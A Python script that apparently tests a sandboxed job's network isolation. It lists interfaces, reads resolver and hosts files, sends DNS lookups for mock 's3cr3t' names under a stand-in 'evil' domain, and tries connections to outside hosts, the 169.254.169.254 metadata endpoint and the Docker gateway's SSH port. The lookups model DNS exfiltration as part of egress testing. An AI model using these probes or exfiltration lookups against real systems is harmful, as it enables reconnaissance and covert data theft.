# The network as a job sees it: links, routes, resolver; what answers without a policy that permits anything.
import json, os, socket, struct


def question(server, name, kind=1):
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    try:
        s.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1), (server, 53))
        answer = s.recv(4096)
    except OSError as error:
        return type(error).__name__
    return "answers" if struct.unpack("!H", answer[6:8])[0] else "code %d" % (answer[3] & 15)


servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
resolved, looked = [], {}
for name in ["ok.sallylab.net", "s3cr3t-payload.evil.sallylab.net", "localhost.localdomain"]:
    try:
        socket.getaddrinfo(name, 80)
        resolved.append(name)
    except OSError:
        pass
for server in servers + ["127.0.0.11", "8.8.8.8", "2001:4860:4860::8888"]:
    for kind in (1, 16):
        looked["%s %d" % (server, kind)] = question(server, "s3cr3t-direct.ok.sallylab.net", kind)
connected = []
for target in [("93.184.216.34", 443), ("93.184.216.34", 80), ("142.250.74.110", 443), ("169.254.169.254", 80), ("172.17.0.1", 22)]:
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(target)
        connected.append(target)
    except OSError:
        pass

# Loopback inside works, and is nobody else's.
inside = {}
for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
    listener = socket.socket(family)
    listener.bind((address, 0))
    listener.listen()
    client = socket.socket(family)
    client.connect(listener.getsockname()[:2])
    server, _ = listener.accept()
    server.sendall(b"salute")
    inside[address] = client.recv(16).decode()

print(json.dumps({
    "links": sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]),
    "resolv": open("/etc/resolv.conf").read(), "servers": servers, "hosts": open("/etc/hosts").read(),
    "resolved": resolved, "looked": looked, "connected": connected, "inside": inside,
}))
